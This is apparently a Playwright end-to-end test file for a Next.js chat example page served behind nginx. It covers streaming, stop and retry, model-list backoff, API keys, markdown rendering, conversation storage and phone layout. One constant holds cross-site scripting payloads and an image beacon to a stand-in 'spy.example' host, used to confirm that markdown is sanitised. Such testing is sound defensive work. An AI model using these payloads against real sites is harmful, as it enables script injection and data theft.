"""The page of examples/nextjs-chat as its readers have it: built, behind nginx, on another origin than the server."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, Route, expect

from tests.e2e.browser.chromium import (
    PHONE,
    check_accessibility,
    chromium,
    has_sideways_scroll,
    keep_picture,
    opened,
    wait_until,
)
from tests.e2e.browser.model_list import FAILURES, FailingModelList, check_retries, check_retry_on_demand, check_return
from tests.support.mock_upstream import MockUpstream
from tests.support.nginx import Nginx, free_port, nginx_in_front_of
from tests.support.slow_stream_server import STORY
from tests.support.snippets import plain_environment
from tests.support.tools import ROOT, require_next_build

EXAMPLE = ROOT / "examples" / "nextjs-chat"
PAGE, OTHER_ORIGIN, SERVER = "http://localhost:3000", "http://localhost:3999", "http://localhost:8000"
DESKTOP: dict[str, Any] = {"viewport": {"width": 1180, "height": 760}}

pytestmark = [pytest.mark.slow]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Nginx]:
    """The page as `make frontend` starts it, behind nginx."""
    require_next_build(EXAMPLE)
    port = free_port()
    log = tmp_path_factory.mktemp("next") / "log"
    with log.open("wb") as output:
        command = ["make", "frontend", f"ARGS=--hostname 127.0.0.1 --port {port}"]
        environment = plain_environment({"NEXT_PUBLIC_API_URL": ""})
        process = subprocess.Popen(
            command, cwd=ROOT, env=environment, stdout=output, stderr=output, start_new_session=True
        )
    try:
        deadline = time.monotonic() + 50
        while b"Ready" not in log.read_bytes():
            assert process.poll() is None, log.read_text()
            assert time.monotonic() < deadline, log.read_text()
            time.sleep(0.05)
        with nginx_in_front_of(f"http://127.0.0.1:{port}") as nginx:
            yield nginx
    finally:
        with suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGTERM)
        process.wait(10)


@pytest.fixture(scope="module")
def browser(site: Nginx, api: Nginx) -> Iterator[Browser]:
    """For it, the page and the server are where the README says: on ports 3000 and 8000 of this machine."""
    page, server = (f"127.0.0.1:{nginx.port}" for nginx in (site, api))
    with chromium({"localhost:3000": page, "localhost:3999": page, "localhost:8000": server}) as browser:
        yield browser


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    with opened(browser, PAGE, **DESKTOP) as page:
        yield page


def composer(page: Page) -> Locator:
    return page.get_by_role("textbox", name="Your message")


def choose(page: Page, model: str) -> None:
    page.get_by_label("Model").select_option(model)


def ask(page: Page, text: str, model: str | None = None) -> None:
    if model:
        choose(page, model)
    composer(page).fill(text)
    page.keyboard.press("Enter")


def answer(page: Page) -> Locator:
    """The last answer."""
    return page.get_by_role("article", name="Assistant").last


def is_answered(page: Page) -> None:
    expect(page.get_by_role("button", name="Copy answer").last).to_be_visible()


def scroll(page: Page) -> dict[str, float]:
    script = """() => {
        const list = document.querySelector("[aria-label=Conversation]");
        return { top: list.scrollTop, left: list.scrollHeight - list.clientHeight - list.scrollTop };
    }"""
    found: dict[str, float] = page.evaluate(script)
    return found


def test_an_empty_conversation_invites(page: Page, pictures: Path) -> None:
    expect(page.get_by_role("heading", name="What can I do for you?")).to_be_visible()
    expect(composer(page)).to_be_focused()
    expect(page.get_by_role("button", name="Send")).to_be_disabled()
    expect(page.get_by_label("Model").get_by_role("option")).to_have_text(
        ["Default model", "mock-gpt-model", "storyteller", "endless-storyteller", "stalls", "breaks", "down"]
    )
    check_accessibility(page)
    keep_picture(page, "chat-empty", pictures)
    page.get_by_role("button", name="Compare").click()
    expect(answer(page)).to_contain_text("Compare TCP and UDP in a table")


def test_the_first_words_are_shown_while_the_last_do_not_exist_yet(
    page: Page, upstream: MockUpstream, pictures: Path
) -> None:
    ask(page, "one two three four five six", "stalls")
    expect(answer(page)).to_contain_text("You said:")
    assert upstream.stats()["requests_open"] == 1
    expect(page.get_by_role("log")).to_have_attribute("aria-busy", "true")


@pytest.mark.parametrize("press", ["button", "key"])
def test_stop_ends_the_call_to_the_upstream_within_a_second(page: Page, upstream: MockUpstream, press: str) -> None:
    ask(page, "one two three four five six", "stalls")
    expect(answer(page)).to_contain_text("You said:")
    if press == "button":
        page.get_by_role("button", name="Stop").click()
    else:
        page.keyboard.press("Escape")
    stopped = time.monotonic()
    upstream.wait_until(lambda stats: stats["requests_aborted"] == 1 and stats["requests_open"] == 0)
    assert time.monotonic() - stopped < 1
    expect(answer(page)).to_contain_text("Stopped")
    page.reload()
    expect(answer(page)).to_contain_text("Stopped")


def test_a_page_that_is_closed_in_the_middle_does_not_show_half_an_answer_as_a_whole(
    page: Page, upstream: MockUpstream
) -> None:
    ask(page, "one two three four five six", "stalls")
    expect(answer(page)).to_contain_text("You said:")
    page.reload()
    expect(answer(page)).to_contain_text("You said:")
    expect(page.get_by_role("alert").filter(has_text="broke off")).to_be_visible()
    upstream.wait_until(lambda stats: stats["requests_open"] == 0)


def test_an_answer_that_the_upstream_cuts_is_an_error_and_can_be_tried_again(page: Page, pictures: Path) -> None:
    ask(page, "one two three four five six", "breaks")
    alert = page.get_by_role("alert").filter(has_text="broke off")
    expect(alert).to_contain_text("The answer broke off before it was complete.")
    expect(answer(page)).to_contain_text("You said:")  # what had come stays
    check_accessibility(page)
    keep_picture(page, "chat-error", pictures)
    page.reload()
    expect(alert).to_be_visible()
    choose(page, "mock-gpt-model")
    alert.get_by_role("button", name="Try again").click()
    is_answered(page)
    expect(answer(page)).to_have_text("one two three four five six")
    expect(alert).to_be_hidden()
    assert page.get_by_role("article", name="Assistant").count() == 1


@pytest.mark.usefixtures("enough")
def test_a_connection_that_breaks_is_an_error(page: Page, api: Nginx) -> None:
    ask(page, "Tell me", "endless-storyteller")
    expect(answer(page)).to_contain_text("Files with")
    api.cut_connections()
    expect(page.get_by_role("alert").filter(has_text="broke")).to_be_visible()


def test_a_refusal_is_said_in_a_sentence(page: Page) -> None:
    ask(page, "Hello", "down")
    alert = page.get_by_role("alert").filter(has_text="answer")
    expect(alert).to_contain_text("No answer can be had right now. Please try again in a moment.")


def test_a_page_of_another_origin_is_blocked(browser: Browser) -> None:
    sentence = "The server at http://localhost:8000 cannot be reached."
    with opened(browser, OTHER_ORIGIN, **DESKTOP) as page:
        expect(page.get_by_role("alert").filter(has_text=sentence)).to_have_count(1)
        ask(page, "Hello")
        expect(page.get_by_role("alert").filter(has_text=sentence)).to_have_count(2)
        assert page.get_by_role("article", name="Assistant").count() == 0


def test_a_model_that_does_not_chat_is_not_offered(browser: Browser) -> None:
    with opened(browser, "about:blank", **DESKTOP) as page:
        page.route("**/v1/models/storyteller", lambda route: route.fulfill(json={"capabilities": ["embeddings"]}))
        page.goto(PAGE)
        options = page.get_by_label("Model").get_by_role("option")
        expect(options).to_have_text(
            ["Default model", "mock-gpt-model", "endless-storyteller", "stalls", "breaks", "down"]
        )


@pytest.mark.parametrize("failure", FAILURES)
def test_a_failed_model_list_is_requested_again_with_backoff(browser: Browser, failure: str) -> None:
    with opened(browser, "about:blank", **DESKTOP) as page:
        models = FailingModelList(page, failure)
        page.goto(PAGE)
        expect(page.get_by_label("Model")).to_be_disabled()
        expect(page.get_by_label("Model").get_by_role("option")).to_have_text(["Loading models"])
        check_retries(page, models)
        expect(page.get_by_label("Model")).to_be_enabled()
        expect(models.alert).to_be_hidden()
        assert models.count == 4, "there are no requests after the first success"


def test_a_hidden_tab_requests_the_model_list_when_it_becomes_visible(browser: Browser) -> None:
    with opened(browser, "about:blank", **DESKTOP) as page:
        models = FailingModelList(page, "unreachable")
        page.goto(PAGE)
        check_return(page, models)
        expect(page.get_by_label("Model")).to_be_enabled()


def test_the_user_can_request_the_model_list_at_once(browser: Browser) -> None:
    with opened(browser, "about:blank", **DESKTOP) as page:
        models = FailingModelList(page, "unreachable")
        page.goto(PAGE)
        check_retry_on_demand(page, models)
        expect(page.get_by_label("Model")).to_be_enabled()
        expect(models.alert).to_be_hidden()


def test_it_asks_for_the_key_where_there_are_keys(browser: Browser, keyed: Nginx) -> None:
    def to_keyed(route: Route) -> None:
        route.continue_(url=route.request.url.replace(SERVER, keyed.url))

    with opened(browser, "about:blank", **DESKTOP) as page:
        page.route(f"{SERVER}/**", to_keyed)
        page.goto(PAGE)
        for label, key in (("This server requires", "wrong"), ("The server does not accept", "key-for-anna")):
            expect(page.get_by_label(label)).to_be_focused()
            check_accessibility(page)
            page.keyboard.type(key)
            page.keyboard.press("Enter")
        ask(page, "Hello", "mock-gpt-model")
        is_answered(page)
        expect(answer(page)).to_have_text("Hello")
        assert "key-for-anna" not in page.evaluate("JSON.stringify(localStorage) + document.cookie")


HOSTILE = """\
<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2">
[link](javascript:window.hacked=3) ![spy](https://spy.example/?secret)
<iframe src="javascript:window.hacked=4"></iframe>

```html
<script>window.hacked = 5</script>
```
"""


def test_markdown_with_a_script_in_it_does_not_run(page: Page) -> None:
    ask(page, HOSTILE)
    is_answered(page)
    expect(answer(page)).to_contain_text("<script>window.hacked = 1</script>")
    link = answer(page).get_by_text("link", exact=True)
    assert not (link.get_attribute("href") or "").startswith("javascript")
    link.click()
    assert answer(page).locator("script, img, iframe").count() == 0  # nor was spy.example asked: `opened` looks
    assert page.evaluate("window.hacked") is None


def test_markdown_is_shown_with_code_to_copy(page: Page, pictures: Path) -> None:
    ask(page, "Write a Python script for duplicate files", "storyteller")
    is_answered(page)
    code = answer(page).locator("figure")
    code.get_by_role("button", name="Copy code").click()
    shown = re.search(r"```python\n(.*?)```", STORY, re.DOTALL)
    assert shown is not None
    assert page.evaluate("navigator.clipboard.readText()") == shown[1]
    assert code.locator(".hljs-keyword").count() > 5
    assert answer(page).get_by_role("row").count() == 4
    assert answer(page).get_by_role("listitem").count() == 2
    check_accessibility(page)
    keep_picture(page, "chat-light", pictures)


def test_dark_mode(browser: Browser, pictures: Path) -> None:
    with opened(browser, PAGE, **DESKTOP, color_scheme="dark") as page:
        light = page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert light == "rgb(22, 23, 26)"
        ask(page, "Write a Python script for duplicate files", "storyteller")
        is_answered(page)
        check_accessibility(page)
        keep_picture(page, "chat-dark", pictures)


@pytest.mark.parametrize("pixels", [10, 250], ids=["a little", "far"])
def test_the_end_is_followed_until_the_reader_scrolls_up(page: Page, pictures: Path, enough: Path, pixels: int) -> None:
    ask(page, "Tell me", "endless-storyteller")
    wait_until(page, lambda: scroll(page)["top"] > 400)
    keep_picture(page, "chat-streaming", pictures)
    page.mouse.move(600, 300)
    page.mouse.wheel(0, -pixels)
    to_bottom = page.get_by_role("button", name="Jump to the latest words")
    expect(to_bottom).to_be_visible()
    top, height = scroll(page)["top"], scroll(page)["left"]
    wait_until(page, lambda: scroll(page)["left"] > height + 100)
    enough.touch()
    is_answered(page)
    assert scroll(page)["top"] == top
    assert scroll(page)["left"] > height
    to_bottom.click()
    assert scroll(page)["left"] <= 1
    expect(to_bottom).to_be_hidden()
    page.get_by_role("button", name="Answer again").click()
    is_answered(page)
    assert scroll(page)["left"] <= 1


def test_nothing_jumps_while_an_answer_grows(page: Page, enough: Path) -> None:
    page.evaluate("""() => {
        window.shifts = [];
        new PerformanceObserver((list) => window.shifts.push(...list.getEntries().map((entry) => entry.value)))
            .observe({ type: "layout-shift" });
    }""")
    ask(page, "Tell me", "endless-storyteller")
    wait_until(page, lambda: scroll(page)["top"] > 400)
    enough.touch()
    is_answered(page)
    assert sum(page.evaluate("window.shifts")) < 0.1  # what is called good: https://web.dev/articles/cls


def test_conversations_are_kept_in_this_browser(page: Page) -> None:
    conversations = page.get_by_role("navigation", name="Conversations")
    ask(page, "The first talk")
    is_answered(page)
    conversations.get_by_role("link", name="New chat").click()
    expect(page.get_by_role("heading", name="What can I do for you?")).to_be_visible()
    ask(page, "The second talk")
    is_answered(page)
    page.reload()
    expect(answer(page)).to_have_text("The second talk")
    conversations.get_by_role("link", name="The first talk").click()
    expect(answer(page)).to_have_text("The first talk")
    page.go_back()
    expect(answer(page)).to_have_text("The second talk")
    conversations.get_by_role("listitem").filter(has_text="The second").hover()
    conversations.get_by_role("button", name="Delete “The second talk”").click()
    expect(page.get_by_role("heading", name="What can I do for you?")).to_be_visible()
    expect(conversations.get_by_role("listitem")).to_have_count(1)


def test_the_conversation_goes_with_the_next_question(page: Page, upstream: MockUpstream) -> None:
    ask(page, "The first talk", "breaks")
    expect(page.get_by_role("alert").filter(has_text="broke off")).to_be_visible()
    ask(page, "And now?")
    expect(page.get_by_role("article", name="You")).to_have_count(2)
    upstream.wait_until(lambda stats: stats["requests_total"] == 2)
    sent = upstream.requests()[-1]
    assert [message["role"] for message in json.loads(sent["body"])["messages"]] == ["user", "assistant", "user"]


def test_input_is_checked(page: Page) -> None:
    send = page.get_by_role("button", name="Send")
    ask(page, "   ")
    assert page.get_by_role("article").count() == 0
    composer(page).fill("x" * 20_003)
    expect(page.get_by_role("alert").filter(has_text="too long")).to_have_text("The message is 3 characters too long.")
    expect(send).to_be_disabled()
    composer(page).fill("one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    assert composer(page).input_value() == "one\ntwo"
    page.keyboard.press("Enter")
    expect(answer(page)).to_contain_text("one")
    assert composer(page).input_value() == ""


def test_a_phone_has_all_of_it_and_no_sideways_scroll(browser: Browser, pictures: Path) -> None:
    with opened(browser, PAGE, **PHONE) as page:
        assert not has_sideways_scroll(page)
        ask(page, "Write a Python script for duplicate files", "storyteller")
        is_answered(page)
        assert not has_sideways_scroll(page)
        check_accessibility(page)
        page.get_by_label("Conversation", exact=True).evaluate("element => element.scrollTop = 0")
        keep_picture(page, "chat-phone", pictures)
        page.get_by_role("button", name="Conversations").click()
        conversations = page.get_by_role("navigation", name="Conversations")
        expect(conversations.get_by_role("link", name="Write a Python script")).to_be_visible()
        check_accessibility(page)
        page.keyboard.press("Escape")
        expect(conversations).to_be_hidden()
